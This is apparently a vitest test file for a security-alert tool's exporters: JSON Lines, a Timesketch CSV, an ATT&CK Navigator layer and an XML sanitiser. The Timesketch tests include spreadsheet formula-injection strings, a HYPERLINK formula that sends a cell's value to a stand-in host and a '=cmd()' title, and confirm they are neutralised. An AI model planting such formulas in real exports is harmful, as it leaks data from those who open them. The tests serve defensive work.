import {expect, it} from "vitest";
import {jsonLines} from "../../../src/core/exports/json-lines.js";
import {navigatorLayer} from "../../../src/core/exports/navigator.js";
import {timesketch} from "../../../src/core/exports/timesketch.js";
import {xmlText} from "../../../src/core/exports/xml.js";
import {eventRows} from "./rows.js";

it("jsonLines(rows) writes one object a line with the same names in each, times as ISO 8601", () => {
  const text = jsonLines([
    {a: 1, time: 1_700_000_000_000},
    {b: "x\n", time: null}
  ]);
  expect(text).toBe(
    '{"a":1,"time":"2023-11-14T22:13:20.000Z","b":null}\n{"a":null,"time":null,"b":"x\\n"}\n'
  );
});

it("timesketch(rows) begins with the columns that Timesketch wants, and guards what a log says", () => {
  const {text, count} = timesketch(eventRows, {evaluation: "abc", synthetic: true});
  const [header, first, , third] = text.split("\r\n");
  expect(header).toMatch(/^message,datetime,timestamp,timestamp_desc,/);
  expect(first).toMatch(
    /^score 0\.731: 10\.0\.0\.5:40000 to 192\.0\.2\.1:443 tcp\/ssl,http: upload|^"score 0\.731: 10\.0\.0\.5:40000 to 192\.0\.2\.1:443 tcp\/ssl,http: upload/
  );
  expect(first).toContain(",2026-03-02T03:04:05.678+00:00,1772420645678000,Connection Start,");
  expect(third).toContain(`"'=HYPERLINK(""http://elsewhere.example/""&A1)"`);
  expect(count).toBe(3);
});

it("navigatorLayer(rows) counts alerts by technique and says how many have none", () => {
  const {text, remarks} = navigatorLayer(eventRows, {threshold: 0.69});
  const layer = JSON.parse(text);
  expect(layer.versions.layer).toBe("4.5");
  expect(layer.domain).toBe("enterprise-attack");
  const scores = layer.techniques.map((entry: {techniqueID: string; score: number}) => [
    entry.techniqueID,
    entry.score
  ]);
  expect(scores).toEqual([
    ["T1046", 1],
    ["T1071.001", 2]
  ]);
  expect(layer.gradient.maxValue).toBe(2);
  expect(layer.techniques[1].comment).toContain("0.731");
  expect(remarks).toEqual(["1 of 3 alerts name no technique"]);
});

it("navigatorLayer(rows) says so instead of writing a layer without techniques", () => {
  expect(() => navigatorLayer([eventRows[1]])).toThrow("no technique in 1 rows");
});

it("navigatorLayer(rows) holds the techniques of labels and of rules, each once", () => {
  const rule = {rule: 1, id: "r", title: "t", level: "low", techniques: ["T1046", "T1110"]};
  const rows = eventRows.map((row) => ({...row, rules: JSON.stringify([rule])}));
  const layer = JSON.parse(navigatorLayer(rows).text);
  const scores = layer.techniques.map(
    ({techniqueID, score, comment}: {[name: string]: unknown}) => [
      techniqueID,
      score,
      /; (\d) by a rule/.exec(String(comment))?.[1]
    ]
  );
  expect(scores).toEqual([
    ["T1046", 3, "3"],
    ["T1071.001", 2, undefined],
    ["T1110", 3, "3"]
  ]);
});

it("timesketch(rows) names the rules that match, and skips what is no list of rules", () => {
  const title = "=cmd()";
  const rules = JSON.stringify([{rule: 1, id: "r", title, level: "low", techniques: ["T1046"]}]);
  const {text} = timesketch([
    {...eventRows[0], rules},
    {...eventRows[0], rules: "[1"},
    {...eventRows[0], rules: '[{"rule":1}]'}
  ]);
  const [header, ...lines] = text.trim().split("\r\n");
  expect(header).toContain(",rules,rule_ids,rule_techniques,");
  expect(lines.map((line) => /'=cmd\(\) \(low\)"?,r,T1046,/.test(line))).toEqual([
    true,
    false,
    false
  ]);
});

it("xmlText(text) keeps what XML 1.0 can hold and nothing else", () => {
  expect(xmlText("a\u0000b\u001bc\td\ne\ud800f🦉\ufffe")).toBe("abc\td\nef🦉");
});
